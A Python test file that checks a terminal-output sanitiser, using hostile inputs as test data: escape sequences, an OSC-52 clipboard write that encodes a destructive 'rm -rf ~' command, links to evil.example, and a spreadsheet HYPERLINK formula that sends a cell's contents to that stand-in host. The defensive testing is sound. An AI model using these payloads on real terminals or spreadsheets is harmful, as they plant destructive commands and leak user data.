"""Output that cannot attack its reader: terminal escapes, formulas, personal data (issue 13)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sinergi_graph.text import printable

# Anything a terminal obeys instead of showing: ESC, C0 but TAB/LF, DEL, C1.
_OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")

ATTACKS = [
    "\x1b[2J\x1b[H",  # clear screen, cursor home
    "\x1b]52;c;cm0gLXJmIH4K\x07",  # OSC-52 clipboard write, BEL-terminated
    "\x1b]52;c;cm0gLXJmIH4K\x1b\\",  # the same, ST-terminated
    "\x1b]8;;http://evil.example/\x1b\\klik\x1b]8;;\x1b\\",  # OSC-8 hyperlink
    "\x9b2J",  # 8-bit CSI
    "\x9d0;judul\x9c",  # 8-bit OSC setting the window title
    "\x1bP+q544e\x1b\\",  # DCS (XTGETTCAP)
    "\x1bc",  # full reset
    "\x1b]52;c;unterminated",
    "\x07\x08\x7f\x00",
    "\u202eevil\u202c",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_printable_leaves_nothing_a_terminal_obeys(attack: str) -> None:
    shown = printable(f"PPS {attack} Tepus")
    assert not _OBEYED.search(shown), repr(shown)
    assert "\u202e" not in shown
    assert shown.startswith("PPS ") and shown.endswith(" Tepus")


def test_printable_removes_escape_payloads_not_only_the_escape_byte() -> None:
    assert printable("a\x1b]52;c;cm0gLXJmIH4K\x07b") == "ab"
    assert printable("a\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\b") == "alinkb"
    assert printable("a\x1b[31;1mb\x1b[0m") == "ab"
    assert printable("a\x9b2Jb") == "ab"


def test_printable_truncated_sequences_at_the_end() -> None:
    assert printable("PPS\x1b[") == "PPS"
    assert printable("PPS\x1b") == "PPS"
    assert printable("PPS\x1b[12;") == "PPS12;"


def test_printable_keeps_ordinary_text_tabs_and_newlines() -> None:
    text = "Kalurahan Tépus\tPPS\nRapat DPTb [bold]=1+1[/] 😀 سلام"
    assert printable(text) == text


def test_printable_turns_carriage_returns_into_newlines() -> None:
    # A bare CR would let "KPU" overwrite "Baw" on the screen.
    assert printable("Bawaslu\rKPU") == "Bawaslu\nKPU"
    assert printable("a\r\nb\u2028c") == "a\nb\nc"


def test_printable_single_line() -> None:
    assert printable("a\tb\r\nc", multiline=False) == "a b c"


# Names and notes made of the pieces attacks are built from: formula prefixes,
# Rich markup, control characters, whole escape sequences, and ordinary text.
_PIECES = st.sampled_from(
    [
        *"=+-@\t\r\n\x00\x07\x1b\x7f\x85\x9b\x9c\x9d\u2028\u202e\uff1d\uff0b\uff0d\uff20",
        *ATTACKS,
        "[/]",
        "[bold]",
        "[link=http://evil.example]",
        '=HYPERLINK("http://evil.example/?"&A2,"klik")',
        "+62 812-3456-7890",
        "-1",
        "@SUM(1)",
        "Kalurahan Tépus",
        ";",
        ",",
        '"',
        " ",
    ]
)
hostile_text = st.one_of(
    st.lists(_PIECES, max_size=6).map("".join),
    st.text(max_size=20),
)


@settings(max_examples=300, deadline=None)
@given(hostile_text)
def test_printable_property_nothing_obeyed_and_idempotent(text: str) -> None:
    shown = printable(text)
    assert not _OBEYED.search(shown), repr(shown)
    assert printable(shown) == shown
    assert not _OBEYED.search(printable(text, multiline=False).replace("\t", ""))
    assert "\n" not in printable(text, multiline=False)
